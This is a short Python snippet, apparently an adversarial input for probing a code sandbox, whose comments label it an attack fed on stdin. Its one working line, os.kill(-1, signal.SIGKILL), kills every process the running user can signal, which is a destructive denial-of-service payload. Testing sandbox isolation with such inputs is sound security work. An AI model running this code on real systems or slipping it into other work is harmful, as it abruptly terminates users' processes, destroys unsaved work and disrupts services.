# target: stdin
# attack: kill every process the sandbox user can signal (kill -1)
import os
import signal
os.kill(-1, signal.SIGKILL)
